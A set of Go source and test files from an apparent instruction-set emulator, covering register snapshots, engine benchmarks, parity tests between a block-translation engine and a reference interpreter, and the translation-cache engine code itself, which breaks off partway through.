	}
	return total
}
