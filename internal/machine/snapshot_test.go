package machine

import (
	"testing"

	"shift/internal/isa"
	"shift/internal/mem"
)

// RestoreRegs must return a run machine to its captured post-load
// state — registers, predicates, PC — with zeroed accounting and a
// clean identity, and a restored rerun must be cycle-identical.
func TestSnapshotRestoreRegs(t *testing.T) {
	p := hookProg(t)
	m := New(p, mem.New())
	m.GR[isa.RegSP] = int64(mem.Addr(2, 0x1000))
	m.TID = 0
	snap := m.SnapshotRegs()

	run := func() uint64 {
		for i := 0; i < len(p.Text); i++ {
			if trap := m.Step(); trap != nil {
				t.Fatalf("step %d: %v", i, trap)
			}
		}
		return m.Cycles
	}
	c1 := run()
	m.TID = 9
	m.Hook = &countingHook{}

	m.RestoreRegs(snap)
	if m.PC != snap.PC || m.GR[isa.RegSP] != snap.GR[isa.RegSP] {
		t.Fatalf("arch state not restored: pc=%d sp=%#x", m.PC, m.GR[isa.RegSP])
	}
	if m.GR[1] != 0 || m.GR[3] != 0 {
		t.Fatalf("run 1 register values survived restore: r1=%d r3=%d", m.GR[1], m.GR[3])
	}
	if m.Cycles != 0 || m.Retired != 0 || m.Halted {
		t.Fatal("accounting not zeroed by restore")
	}
	if m.TID != 0 || m.Hook != nil {
		t.Fatal("restore kept per-run identity")
	}
	if c2 := run(); c2 != c1 {
		t.Fatalf("restored rerun not cycle-identical: %d vs %d", c2, c1)
	}
}
