package machine

import (
	"testing"

	"shift/internal/asm"
	"shift/internal/isa"
	"shift/internal/mem"
)

// benchThroughput measures raw engine speed in guest instructions per
// second on a tight ALU/load/store/branch mix — the execution engine's
// headline number, independent of any workload's build pipeline.
func benchThroughput(b *testing.B, engine Engine) {
	p, err := asm.Assemble(`
	movl r10 = 2305843009213693952   ; region-1 scratch base
	movl r1 = 1000
	movl r2 = 0
loop:
	add r2 = r2, r1
	xor r3 = r2, r1
	shli r4 = r3, 3
	st8 [r10] = r4
	ld8 r5 = [r10]
	addi r1 = r1, -1
	cmpi.gt p6, p7 = r1, 0
	(p6) br loop
	mov r32 = r2
	syscall 1
`, asm.Options{})
	if err != nil {
		b.Fatalf("assemble: %v", err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	var retired uint64
	for i := 0; i < b.N; i++ {
		m := mem.New()
		m.MapRegion(0, 0)
		m.MapRegion(1, 0)
		m.MapRegion(2, 0)
		m.Cache = mem.NewCache(16*1024, 64)
		mach := New(p, m)
		mach.Engine = engine
		mach.OS = benchOS{}
		mach.GR[isa.RegSP] = int64(mem.Addr(2, 0x10000))
		if trap := mach.Run(); trap != nil {
			b.Fatal(trap)
		}
		retired += mach.Retired
	}
	b.StopTimer()
	if b.Elapsed() > 0 {
		b.ReportMetric(float64(retired)/b.Elapsed().Seconds(), "guest-instr/s")
	}
}

// BenchmarkStepThroughput runs the default translated-block engine.
func BenchmarkStepThroughput(b *testing.B) { benchThroughput(b, EngineBlock) }

// BenchmarkStepThroughputInterp runs the reference interpreter — the
// oracle's ground-truth engine and the block engine's comparison point.
func BenchmarkStepThroughputInterp(b *testing.B) { benchThroughput(b, EngineInterp) }

type benchOS struct{}

func (benchOS) Syscall(m *Machine, num int64) (uint64, *Trap) {
	if num == isa.SysExit {
		m.Halt(m.GR[isa.RegArg0])
		return 0, nil
	}
	return 0, &Trap{Kind: TrapHostError, PC: m.PC, Ins: "syscall"}
}
