package machine

import (
	"fmt"
	"testing"

	"shift/internal/asm"
	"shift/internal/isa"
	"shift/internal/mem"
)

// newTestMachine assembles src and prepares a machine without running it.
func newTestMachine(t *testing.T, src string, engine Engine, setup func(*Machine)) *Machine {
	t.Helper()
	p, err := asm.Assemble(src, asm.Options{})
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	m := mem.New()
	m.MapRegion(0, 0)
	m.MapRegion(1, 0)
	m.MapRegion(2, 0)
	if f := m.WriteBytes(p.DataBase, p.Data); f != nil {
		t.Fatalf("loading data: %v", f)
	}
	mach := New(p, m)
	mach.Engine = engine
	mach.OS = exitOnlyOS{}
	mach.GR[isa.RegSP] = int64(mem.Addr(2, 0x10000))
	if setup != nil {
		setup(mach)
	}
	return mach
}

// compareMachines asserts every architectural observable agrees between
// the interpreter and block engine runs of the same program.
func compareMachines(t *testing.T, label string, ref, got *Machine, refTrap, gotTrap *Trap) {
	t.Helper()
	if (refTrap == nil) != (gotTrap == nil) {
		t.Fatalf("%s: trap mismatch: interp=%v block=%v", label, refTrap, gotTrap)
	}
	if refTrap != nil {
		if refTrap.Kind != gotTrap.Kind || refTrap.PC != gotTrap.PC ||
			refTrap.Addr != gotTrap.Addr || refTrap.Reg != gotTrap.Reg ||
			refTrap.Ins != gotTrap.Ins {
			t.Fatalf("%s: trap detail mismatch:\n interp: %+v\n block:  %+v", label, refTrap, gotTrap)
		}
	}
	if ref.GR != got.GR {
		t.Errorf("%s: GR mismatch", label)
	}
	if ref.NaT != got.NaT {
		t.Errorf("%s: NaT mismatch", label)
	}
	if ref.PR != got.PR {
		t.Errorf("%s: PR mismatch", label)
	}
	if ref.BR != got.BR {
		t.Errorf("%s: BR mismatch", label)
	}
	if ref.UNAT != got.UNAT {
		t.Errorf("%s: UNAT mismatch: interp=%#x block=%#x", label, ref.UNAT, got.UNAT)
	}
	if ref.CCV != got.CCV {
		t.Errorf("%s: CCV mismatch", label)
	}
	if ref.PC != got.PC {
		t.Errorf("%s: PC mismatch: interp=%d block=%d", label, ref.PC, got.PC)
	}
	if ref.Cycles != got.Cycles {
		t.Errorf("%s: Cycles mismatch: interp=%d block=%d", label, ref.Cycles, got.Cycles)
	}
	if ref.CyclesByClass != got.CyclesByClass {
		t.Errorf("%s: CyclesByClass mismatch:\n interp: %v\n block:  %v", label, ref.CyclesByClass, got.CyclesByClass)
	}
	if ref.Retired != got.Retired {
		t.Errorf("%s: Retired mismatch: interp=%d block=%d", label, ref.Retired, got.Retired)
	}
	if ref.Halted != got.Halted || ref.ExitStatus != got.ExitStatus {
		t.Errorf("%s: exit mismatch: interp=(%v,%d) block=(%v,%d)",
			label, ref.Halted, ref.ExitStatus, got.Halted, got.ExitStatus)
	}
}

// parityPrograms is the differential corpus: every control shape and
// trap path the engines must agree on bit-for-bit.
var parityPrograms = []struct {
	name  string
	src   string
	feat  Features
	setup func(*Machine)
}{
	{name: "arith loop", src: `
	movl r10 = 2305843009213693952
	movl r1 = 200
	movl r2 = 0
loop:
	add r2 = r2, r1
	xor r3 = r2, r1
	shli r4 = r3, 3
	st8 [r10] = r4
	ld8 r5 = [r10]
	addi r1 = r1, -1
	cmpi.gt p6, p7 = r1, 0
	(p6) br loop
	mov r32 = r2
	syscall 1
`},
	{name: "self-clear idioms", src: `
	xor r2 = r127, r127
	sub r3 = r127, r127
	mov r32 = r2
	syscall 1
`, setup: func(m *Machine) { m.NaT[127] = true }},
	{name: "qp squash", src: `
	cmpi.eq p6, p7 = r0, 1
	(p6) movl r2 = 11
	(p7) movl r2 = 22
	(p6) st8 [r127] = r127
	mov r32 = r2
	syscall 1
`, setup: func(m *Machine) { m.NaT[127] = true }},
	{name: "nat-sensitive compare", src: `
	cmpi.eq p6, p7 = r127, 0
	(p6) movl r2 = 1
	(p7) movl r3 = 2
	mov r32 = r0
	syscall 1
`, setup: func(m *Machine) { m.NaT[127] = true }},
	{name: "chk.s recovery", src: `
	chk.s r127, recover
	movl r32 = 1
	syscall 1
recover:
	movl r32 = 9
	syscall 1
`, setup: func(m *Machine) { m.NaT[127] = true }},
	{name: "spec load defer", src: `
	movl r1 = 6341068275337658368   ; region 5: unmapped
	ld8.s r2 = [r1]
	tnat p6, p7 = r2
	(p6) movl r32 = 5
	(p7) movl r32 = 0
	syscall 1
`},
	{name: "spill fill", src: `
	movl r1 = 2305843009213693952
	st8.spill [r1] = r127, 3
	ld8.fill r2 = [r1], 3
	mov r32 = r0
	syscall 1
`, setup: func(m *Machine) { m.NaT[127] = true }},
	{name: "call ret", src: `
main:
	movl r33 = 7
	br.call b0 = double
	mov r32 = r33
	syscall 1
double:
	add r33 = r33, r33
	br.ret b0
`},
	{name: "div zero trap", src: `
	movl r1 = 5
	div r2 = r1, r0
	syscall 1
`},
	{name: "nat store trap", src: `
	movl r1 = 2305843009213693952
	st8 [r1] = r127
	syscall 1
`, setup: func(m *Machine) { m.NaT[127] = true }},
	{name: "nat load addr trap", src: `
	ld8 r2 = [r127]
	syscall 1
`, setup: func(m *Machine) { m.NaT[127] = true }},
	{name: "nat branch trap", src: `
	mov b6 = r127
	syscall 1
`, setup: func(m *Machine) { m.NaT[127] = true }},
	{name: "illegal setnat", src: `
	setnat r2
	syscall 1
`},
	{name: "bad pc", src: `
	movl r1 = 9999
	mov b6 = r1
	br.ind b6
	syscall 1
`},
	{name: "mem fault", src: `
	movl r1 = 6341068275337658368   ; region 5: unmapped
	ld8 r2 = [r1]
	syscall 1
`},
	{name: "unaligned store", src: `
	movl r1 = 2305843009213693955
	st8 [r1] = r0
	syscall 1
`},
	{name: "cmpxchg", src: `
	movl r1 = 2305843009213693952
	movl r2 = 42
	st8 [r1] = r0
	mov ccv = r0
	cmpxchg8 r3 = [r1], r2
	ld8 r4 = [r1]
	mov r32 = r4
	syscall 1
`},
	{name: "enhancement setnat", src: `
	setnat r2
	tnat p6, p7 = r2
	clrnat r2
	(p6) movl r32 = 1
	syscall 1
`, feat: Features{SetClrNaT: true}},
	{name: "widths", src: `
	movl r1 = 2305843009213693952
	movl r2 = -1
	st1 [r1] = r2
	st2 [r1] = r2
	st4 [r1] = r2
	ld1 r3 = [r1]
	ld2 r4 = [r1]
	ld4 r5 = [r1]
	mov r32 = r3
	syscall 1
`},
}

// TestEngineParity runs the corpus under both engines and requires
// bit-identical architectural state, traps included.
func TestEngineParity(t *testing.T) {
	for _, tc := range parityPrograms {
		t.Run(tc.name, func(t *testing.T) {
			ref := newTestMachine(t, tc.src, EngineInterp, tc.setup)
			ref.Feat = tc.feat
			refTrap := ref.Run()
			got := newTestMachine(t, tc.src, EngineBlock, tc.setup)
			got.Feat = tc.feat
			gotTrap := got.Run()
			compareMachines(t, tc.name, ref, got, refTrap, gotTrap)
		})
	}
}

// TestEngineParityBudgetSweep expires the retirement budget at every
// possible instruction of a looping program and requires the engines to
// agree on the trap point and the machine state at it. This covers the
// block engine's mid-block delegation to the interpreter.
func TestEngineParityBudgetSweep(t *testing.T) {
	src := parityPrograms[0].src
	for budget := uint64(1); budget <= 40; budget++ {
		ref := newTestMachine(t, src, EngineInterp, nil)
		ref.Budget = budget
		refTrap := ref.Run()
		got := newTestMachine(t, src, EngineBlock, nil)
		got.Budget = budget
		gotTrap := got.Run()
		compareMachines(t, fmt.Sprintf("budget=%d", budget), ref, got, refTrap, gotTrap)
	}
}

// TestEngineParitySlices drives both engines through the scheduler's
// slice entry point with a tiny quantum, checking state equality after
// every slice — the quantum-expiry boundaries themselves must match
// (tag-coherent preemption picks the same instruction on both engines).
func TestEngineParitySlices(t *testing.T) {
	for _, unsafePre := range []bool{false, true} {
		src := parityPrograms[0].src
		ref := newTestMachine(t, src, EngineInterp, nil)
		got := newTestMachine(t, src, EngineBlock, nil)
		ref.UnsafePreempt = unsafePre
		got.UnsafePreempt = unsafePre
		const quantum = 7
		for step := 0; !ref.Halted; step++ {
			refTrap := ref.slice(ref.Prog.Text, ref.resolveBudget(), ref.Cycles+quantum)
			gotTrap := got.slice(got.Prog.Text, got.resolveBudget(), got.Cycles+quantum)
			compareMachines(t, fmt.Sprintf("unsafe=%v slice=%d", unsafePre, step), ref, got, refTrap, gotTrap)
			if step > 10000 {
				t.Fatal("runaway")
			}
		}
		if !got.Halted {
			t.Fatal("block engine did not halt with interp")
		}
	}
}

// TestEngineParityHooked runs the block engine's per-instruction careful
// driver (hook attached) against the interpreter with the same hook,
// checking the hook observes the identical retirement stream.
func TestEngineParityHooked(t *testing.T) {
	for _, tc := range parityPrograms {
		t.Run(tc.name, func(t *testing.T) {
			var refSeen, gotSeen []int
			ref := newTestMachine(t, tc.src, EngineInterp, tc.setup)
			ref.Feat = tc.feat
			ref.Hook = &recordingHook{pcs: &refSeen}
			ref.EnableStats()
			refTrap := ref.Run()
			got := newTestMachine(t, tc.src, EngineBlock, tc.setup)
			got.Feat = tc.feat
			got.Hook = &recordingHook{pcs: &gotSeen}
			got.EnableStats()
			gotTrap := got.Run()
			compareMachines(t, tc.name, ref, got, refTrap, gotTrap)
			if len(refSeen) != len(gotSeen) {
				t.Fatalf("hook stream length: interp=%d block=%d", len(refSeen), len(gotSeen))
			}
			for i := range refSeen {
				if refSeen[i] != gotSeen[i] {
					t.Fatalf("hook stream diverges at %d: interp pc=%d block pc=%d", i, refSeen[i], gotSeen[i])
				}
			}
			if ref.Stats.RetiredByOp != got.Stats.RetiredByOp {
				t.Error("RetiredByOp mismatch")
			}
		})
	}
}

// recordingHook captures the PC at every PreStep and checks PostStep
// sees the same PC (the interpreter's advance-after-PostStep contract).
type recordingHook struct {
	pcs *[]int
}

func (h *recordingHook) PreStep(m *Machine, ins *isa.Instruction) {
	*h.pcs = append(*h.pcs, m.PC)
}

func (h *recordingHook) PostStep(m *Machine, ins *isa.Instruction) error {
	if n := len(*h.pcs); n > 0 && (*h.pcs)[n-1] != m.PC {
		return fmt.Errorf("PostStep pc=%d, PreStep saw %d", m.PC, (*h.pcs)[n-1])
	}
	return nil
}

// TestResetKeepsTranslations is the regression test for the Reset bug:
// rewinding execution state must not discard the translation cache, or
// every rerun recompiles the whole program. Before the fix, Reset wiped
// the cache attachment and the second run rebuilt every block.
func TestResetKeepsTranslations(t *testing.T) {
	// A source unique to this test: the registry shares caches by program
	// content, so reusing a corpus program would start with a warm cache.
	src := `
	movl r1 = 31337
	movl r2 = 0
loop:
	add r2 = r2, r1
	addi r1 = r1, -1
	cmpi.gt p6, p7 = r1, 31300
	(p6) br loop
	mov r32 = r0
	syscall 1
`
	m := newTestMachine(t, src, EngineBlock, nil)
	if trap := m.Run(); trap != nil {
		t.Fatal(trap)
	}
	tc := m.Translations()
	if tc == nil {
		t.Fatal("no translation cache attached after a block-engine run")
	}
	if m.BlockStats.Misses == 0 {
		t.Fatal("first run compiled nothing")
	}
	m.Reset()
	if m.Translations() != tc {
		t.Fatal("Reset dropped the translation cache")
	}
	if m.BlockStats.Hits != 0 || m.BlockStats.Misses != 0 {
		t.Fatal("Reset did not zero the block counters")
	}
	if trap := m.Run(); trap != nil {
		t.Fatal(trap)
	}
	if m.BlockStats.Misses != 0 || m.BlockStats.Compiled != 0 {
		t.Fatalf("rerun after Reset recompiled: %+v", m.BlockStats)
	}
	if m.BlockStats.Hits == 0 {
		t.Fatal("rerun after Reset did not hit the cache")
	}
	if m.Translations() != tc {
		t.Fatal("rerun swapped the translation cache")
	}
}

// TestTranslationSharedAcrossRuns: two machines running byte-identical
// program texts assembled separately share one translation cache through
// the registry — the cache is keyed by program content, not identity.
func TestTranslationSharedAcrossRuns(t *testing.T) {
	src := parityPrograms[0].src
	m1 := newTestMachine(t, src, EngineBlock, nil)
	if trap := m1.Run(); trap != nil {
		t.Fatal(trap)
	}
	m2 := newTestMachine(t, src, EngineBlock, nil)
	if trap := m2.Run(); trap != nil {
		t.Fatal(trap)
	}
	if m1.Translations() == nil || m1.Translations() != m2.Translations() {
		t.Fatalf("identical programs did not share a translation cache: %p vs %p",
			m1.Translations(), m2.Translations())
	}
	if m2.BlockStats.Compiled != 0 {
		t.Fatalf("second machine recompiled %d blocks despite the shared cache", m2.BlockStats.Compiled)
	}
	if m2.BlockStats.Hits == 0 {
		t.Fatal("second machine did not hit the shared cache")
	}
}

// TestTranslationInvalidatedOnProgramSwap: swapping a machine to a
// different program must detach the stale cache (counted as an
// invalidation) and attach one for the new text.
func TestTranslationInvalidatedOnProgramSwap(t *testing.T) {
	m := newTestMachine(t, parityPrograms[0].src, EngineBlock, nil)
	if trap := m.Run(); trap != nil {
		t.Fatal(trap)
	}
	first := m.Translations()

	p2, err := asm.Assemble("movl r32 = 77\nsyscall 1\n", asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	m.Prog = p2
	m.Reset()
	if trap := m.Run(); trap != nil {
		t.Fatal(trap)
	}
	if m.ExitStatus != 77 {
		t.Fatalf("swapped program exit = %d, want 77", m.ExitStatus)
	}
	if m.BlockStats.Invalidations != 1 {
		t.Fatalf("invalidations = %d, want 1", m.BlockStats.Invalidations)
	}
	if m.Translations() == first {
		t.Fatal("stale translation cache still attached after program swap")
	}
}
