// Translated-block execution engine: the first time control reaches a
// basic block, its instructions are pre-decoded into a compact micro-op
// array (operand registers, immediates, cost classes and memory widths
// resolved; the self-clearing idioms recognized) and the array is cached
// in a per-text translation cache keyed by entry PC. Subsequent
// executions run the micro-ops through one flat switch loop, skipping
// the fetch and operand-decode work of the reference interpreter in exec
// and binding fixed-width memory accesses to the mem package's
// specialized paths.
//
// The engine is an optimization, never a semantic fork: the interpreter
// remains the reference (the lockstep oracle's ground truth), and the
// block engine must be bit-identical to it in every observable —
// registers, NaT bits, traps, cycle accounting per cost class, retired
// counts, and the scheduler's slice-boundary decisions. Where exactness
// is cheaper to inherit than to re-derive (a retirement budget expiring
// mid-block), the engine delegates the slice to exec instead of
// duplicating its behaviour.
//
// Machine state is materialized lazily on the hook-free fast path:
// within a block, PC and Retired live as (entry, index) in the driver
// and Cycles accumulates in a local; all three are written back only at
// block exits — terminators, traps, syscalls, and quantum expiry. The
// per-class cycle split stays eager (it is off the critical dependency
// chain), and the quantum check compares the local cycle counter after
// every micro-op, so tag-coherent expiry lands on exactly the
// instruction the interpreter would pick.
package machine

import (
	"container/list"
	"fmt"
	"sync"
	"sync/atomic"

	"shift/internal/isa"
)

// Engine selects the execution engine for Run and scheduler slices.
// The zero value is the block engine, so machines default to it; Step
// always uses the interpreter (it is the single-instruction reference
// path).
type Engine uint8

// Engines.
const (
	// EngineBlock executes cached pre-decoded basic blocks (default).
	EngineBlock Engine = iota
	// EngineInterp executes through the reference interpreter in exec.
	// It is the oracle's reference engine: the block engine is validated
	// against it, never the other way around.
	EngineInterp
)

// String names the engine.
func (e Engine) String() string {
	switch e {
	case EngineBlock:
		return "block"
	case EngineInterp:
		return "interp"
	}
	return fmt.Sprintf("engine(%d)", uint8(e))
}

// EngineFromString parses an engine name as used by -engine flags.
func EngineFromString(s string) (Engine, bool) {
	switch s {
	case "block":
		return EngineBlock, true
	case "interp":
		return EngineInterp, true
	}
	return 0, false
}

// uopKind is the pre-decoded dispatch key: the opcode specialized by
// whatever was resolvable at translation time (memory access width, the
// self-clearing xor/sub idiom). Terminator kinds are grouped at the
// end; they transfer control and always end a block.
type uopKind uint8

const (
	uAdd uopKind = iota
	uSub
	uClear // xor/sub with Src1 == Src2: the §3.2 self-clearing idiom
	uAnd
	uAndcm
	uOr
	uXor
	uShl
	uShr
	uSar
	uMul
	uDiv
	uRem
	uAddi
	uAndi
	uOri
	uXori
	uShli
	uShri
	uSari
	uMov
	uMovl
	uCmp
	uCmpi
	uCmpNa
	uCmpiNa
	uTnat
	uLd8
	uLd4
	uLd2
	uLd1
	uLdS8
	uLdS4
	uLdS2
	uLdS1
	uLdFill
	uSt8
	uSt4
	uSt2
	uSt1
	uStSpill
	uMovToBr
	uMovFromBr
	uMovToUnat
	uMovFromUnat
	uMovToCcv
	uMovFromCcv
	uCmpxchg
	uSetNat
	uClrNat
	uNop
	uIllegal

	// Terminators.
	uChkS
	uBr
	uBrCall
	uBrRet
	uBrInd
	uSyscall
)

// uop is one pre-decoded instruction: every operand field the execution
// arms need, flattened into a small struct so the fast driver walks a
// contiguous array with no pointer chasing. Cost *values* and feature
// gates are read from the machine at run time, never baked in here, so
// a cache shared across runs stays correct under differing Costs or
// Features — the translation depends on the program text alone.
type uop struct {
	kind  uopKind
	class isa.CostClass
	qp    uint8
	d     uint8
	s1    uint8
	s2    uint8
	p1    uint8
	p2    uint8
	b     uint8
	bit   uint8 // UNAT bit (spill/fill); access width (cmpxchg)
	cond  isa.Cond
	imm   int64
	tgt   int32
}

// block is one compiled basic block: a maximal straight-line run of
// instructions starting at entry, ended by a control-transfer
// terminator (branch, call, return, chk.s, syscall) or the end of the
// text. Blocks are immutable after compilation and safe to execute
// concurrently from any machine over the same program text.
type block struct {
	entry int
	n     int  // instruction count (== len(uops))
	term  bool // last uop is a terminator
	uops  []uop
	// ins holds the source instruction per op — cold data used only for
	// trap disassembly and the hooked driver's PreStep/PostStep.
	ins []*isa.Instruction
	// preempt[i] reports whether pc entry+i+1 — the fall-through
	// successor of op i — is a tag-coherent preemption point (the next
	// instruction is original-program code, or past the text). It folds
	// the sliceBoundary recomputation into the translation step.
	preempt []bool
}

// BlockStats counts the machine's translation-cache traffic. Hits and
// misses are per block *execution*, compiled per block built by this
// machine, invalidations per stale cache dropped on a program swap.
// Reset zeroes the counters along with the other accounting; the cache
// itself survives.
type BlockStats struct {
	Compiled      uint64
	Hits          uint64
	Misses        uint64
	Invalidations uint64
}

// TransCache is the shared translation cache for one program text:
// compiled blocks indexed by entry PC. Lookups are lock-free atomic
// loads; concurrent first executions of the same block may compile it
// twice, which is benign — the blocks are identical and immutable, and
// the last store wins.
type TransCache struct {
	text     []isa.Instruction
	blocks   []atomic.Pointer[block]
	compiled atomic.Uint64 // blocks ever stored (duplicates included)
	hash     uint64        // registry bucket key (for O(1) eviction)
	elem     *list.Element // registry LRU slot; nil once evicted
}

// Blocks returns how many block compilations this cache has absorbed.
func (tc *TransCache) Blocks() uint64 { return tc.compiled.Load() }

// matches reports whether the cache was compiled for exactly this text.
// The pointer identity fast path covers machines sharing one program;
// the content comparison covers separate runs rebuilding an identical
// program (the bench harness re-executes the same instrumented program
// across cells and file sizes).
func (tc *TransCache) matches(text []isa.Instruction) bool {
	if len(tc.text) != len(text) {
		return false
	}
	if len(text) == 0 || &tc.text[0] == &text[0] {
		return true
	}
	for i := range text {
		if tc.text[i] != text[i] {
			return false
		}
	}
	return true
}

// lookup returns the compiled block starting at pc, compiling it on
// first use. pc must be a valid index into the cache's text.
func (tc *TransCache) lookup(m *Machine, pc int) *block {
	if b := tc.blocks[pc].Load(); b != nil {
		m.BlockStats.Hits++
		return b
	}
	m.BlockStats.Misses++
	b := compileBlock(tc.text, pc)
	tc.blocks[pc].Store(b)
	tc.compiled.Add(1)
	m.BlockStats.Compiled++
	return b
}

// transRegistry is the process-wide home of translation caches, keyed
// by a content hash of the program text so runs that rebuild an
// identical program (every bench cell, every reset) share one cache.
// The mutex guards only attach — once a machine holds its *TransCache,
// block lookups never touch the registry.
//
// Retention is bounded: caches sit in an LRU list (most recently
// attached first) capped at limit distinct texts. A long-lived process
// that keeps compiling fresh programs — the fuzz harness, a pooled
// server — evicts cold texts instead of holding every program it ever
// saw. Eviction only forgets the compilation: machines still holding an
// evicted cache keep executing through it (the identity fast path never
// consults the registry), and a re-attach simply recompiles.
var transRegistry struct {
	mu        sync.Mutex
	byHash    map[uint64][]*TransCache
	lru       list.List // *TransCache, front = most recently attached
	limit     int
	evictions uint64
}

// DefaultTranslationCacheLimit is the registry's default cap on
// retained program texts.
const DefaultTranslationCacheLimit = 64

// SetTranslationCacheLimit caps the registry at n retained texts
// (minimum 1), evicting immediately if it is over, and returns the
// previous limit. Process-wide; tests use it to shrink and restore.
func SetTranslationCacheLimit(n int) int {
	if n < 1 {
		n = 1
	}
	transRegistry.mu.Lock()
	defer transRegistry.mu.Unlock()
	prev := registryLimit()
	transRegistry.limit = n
	evictOverLimit()
	return prev
}

// TranslationEvictions reports how many caches the registry has evicted.
func TranslationEvictions() uint64 {
	transRegistry.mu.Lock()
	defer transRegistry.mu.Unlock()
	return transRegistry.evictions
}

// registryLimit returns the effective cap (callers hold the mutex).
func registryLimit() int {
	if transRegistry.limit < 1 {
		return DefaultTranslationCacheLimit
	}
	return transRegistry.limit
}

// evictOverLimit drops least-recently-attached caches until the registry
// is within its cap (callers hold the mutex).
func evictOverLimit() {
	limit := registryLimit()
	for transRegistry.lru.Len() > limit {
		back := transRegistry.lru.Back()
		tc := back.Value.(*TransCache)
		transRegistry.lru.Remove(back)
		tc.elem = nil
		bucket := transRegistry.byHash[tc.hash]
		for i, c := range bucket {
			if c == tc {
				bucket = append(bucket[:i], bucket[i+1:]...)
				break
			}
		}
		if len(bucket) == 0 {
			delete(transRegistry.byHash, tc.hash)
		} else {
			transRegistry.byHash[tc.hash] = bucket
		}
		transRegistry.evictions++
	}
}

// hashText hashes the semantic fields of every instruction (FNV-1a).
// Hash collisions are resolved by full comparison in matches, so the
// field choice only affects bucket quality, not correctness.
func hashText(text []isa.Instruction) uint64 {
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	h := uint64(offset64)
	mix := func(v uint64) {
		h = (h ^ v) * prime64
	}
	mix(uint64(len(text)))
	for i := range text {
		ins := &text[i]
		mix(uint64(ins.Op) | uint64(ins.Qp)<<8 | uint64(ins.Dest)<<16 |
			uint64(ins.Src1)<<24 | uint64(ins.Src2)<<32 | uint64(ins.P1)<<40 |
			uint64(ins.P2)<<48 | uint64(ins.B)<<56)
		mix(uint64(ins.Size) | uint64(ins.Cond)<<8 | uint64(ins.Class)<<16)
		mix(uint64(ins.Imm))
		mix(uint64(ins.Target))
	}
	return h
}

// translationsFor returns the shared cache for text, creating it on
// first sight of this program content.
func translationsFor(text []isa.Instruction) *TransCache {
	h := hashText(text)
	transRegistry.mu.Lock()
	defer transRegistry.mu.Unlock()
	if transRegistry.byHash == nil {
		transRegistry.byHash = make(map[uint64][]*TransCache)
	}
	for _, tc := range transRegistry.byHash[h] {
		if tc.matches(text) {
			transRegistry.lru.MoveToFront(tc.elem)
			return tc
		}
	}
	tc := &TransCache{text: text, blocks: make([]atomic.Pointer[block], len(text)), hash: h}
	tc.elem = transRegistry.lru.PushFront(tc)
	transRegistry.byHash[h] = append(transRegistry.byHash[h], tc)
	evictOverLimit()
	return tc
}

// TranslationTotals reports process-wide translation-registry
// aggregates: distinct program texts with a cache, and total block
// compilations.
func TranslationTotals() (caches, blocks uint64) {
	transRegistry.mu.Lock()
	defer transRegistry.mu.Unlock()
	for _, list := range transRegistry.byHash {
		for _, tc := range list {
			caches++
			blocks += tc.compiled.Load()
		}
	}
	return caches, blocks
}

// Translations returns the machine's attached translation cache (nil
// before the block engine has run). Reset preserves it: the cache is a
// property of the program text, not of one run.
func (m *Machine) Translations() *TransCache { return m.tc }

// translations returns the cache valid for text, attaching through the
// registry when the machine has none or a program swap made the
// attached one stale. The fast path is one pointer identity check per
// slice.
func (m *Machine) translations(text []isa.Instruction) *TransCache {
	tc := m.tc
	if tc != nil {
		if len(m.tcText) == len(text) && (len(text) == 0 || &m.tcText[0] == &text[0]) {
			return tc
		}
		if tc.matches(text) {
			// Same program content behind a different slice header (a
			// Prog swap to an identical build); revalidate, don't drop.
			m.tcText = text
			return tc
		}
		m.BlockStats.Invalidations++
	}
	tc = translationsFor(text)
	m.tc = tc
	m.tcText = text
	return tc
}

// slice executes one scheduling slice on the machine's selected engine.
// Run and the Scheduler go through here so the engine choice is applied
// uniformly; Step stays on the interpreter.
func (m *Machine) slice(text []isa.Instruction, budget, sliceEnd uint64) *Trap {
	if m.Engine == EngineInterp {
		return m.exec(text, budget, sliceEnd, false)
	}
	if m.Hook != nil || m.Stats != nil {
		return m.execBlocksCareful(text, budget, sliceEnd)
	}
	return m.execBlocksFast(text, budget, sliceEnd)
}

// compileBlock pre-decodes the basic block starting at entry.
func compileBlock(text []isa.Instruction, entry int) *block {
	b := &block{entry: entry}
	for pc := entry; pc < len(text); pc++ {
		ins := &text[pc]
		u, term := encodeUop(ins)
		b.uops = append(b.uops, u)
		b.ins = append(b.ins, ins)
		b.preempt = append(b.preempt,
			pc+1 >= len(text) || text[pc+1].Class == isa.ClassOrig)
		if term {
			b.term = true
			break
		}
	}
	b.n = len(b.uops)
	return b
}

// encodeUop translates one instruction into its micro-op form. term
// marks control-transfer terminators.
func encodeUop(ins *isa.Instruction) (u uop, term bool) {
	u = uop{
		class: ins.Class, qp: ins.Qp,
		d: ins.Dest, s1: ins.Src1, s2: ins.Src2,
		p1: ins.P1, p2: ins.P2, b: ins.B,
		cond: ins.Cond, imm: ins.Imm, tgt: int32(ins.Target),
	}
	switch ins.Op {
	case isa.OpAdd:
		u.kind = uAdd
	case isa.OpSub:
		if ins.Src1 == ins.Src2 {
			u.kind = uClear
		} else {
			u.kind = uSub
		}
	case isa.OpAnd:
		u.kind = uAnd
	case isa.OpAndcm:
		u.kind = uAndcm
	case isa.OpOr:
		u.kind = uOr
	case isa.OpXor:
		if ins.Src1 == ins.Src2 {
			u.kind = uClear
		} else {
			u.kind = uXor
		}
	case isa.OpShl:
		u.kind = uShl
	case isa.OpShr:
		u.kind = uShr
	case isa.OpSar:
		u.kind = uSar
	case isa.OpMul:
		u.kind = uMul
	case isa.OpDiv:
		u.kind = uDiv
	case isa.OpRem:
		u.kind = uRem
	case isa.OpAddi:
		u.kind = uAddi
	case isa.OpAndi:
		u.kind = uAndi
	case isa.OpOri:
		u.kind = uOri
	case isa.OpXori:
		u.kind = uXori
	case isa.OpShli:
		u.kind = uShli
	case isa.OpShri:
		u.kind = uShri
	case isa.OpSari:
		u.kind = uSari
	case isa.OpMov:
		u.kind = uMov
	case isa.OpMovl:
		u.kind = uMovl
	case isa.OpCmp:
		u.kind = uCmp
	case isa.OpCmpi:
		u.kind = uCmpi
	case isa.OpCmpNa:
		u.kind = uCmpNa
	case isa.OpCmpiNa:
		u.kind = uCmpiNa
	case isa.OpTnat:
		u.kind = uTnat
	case isa.OpLd:
		switch ins.Size {
		case 8:
			u.kind = uLd8
		case 4:
			u.kind = uLd4
		case 2:
			u.kind = uLd2
		default:
			u.kind = uLd1
		}
	case isa.OpLdS:
		switch ins.Size {
		case 8:
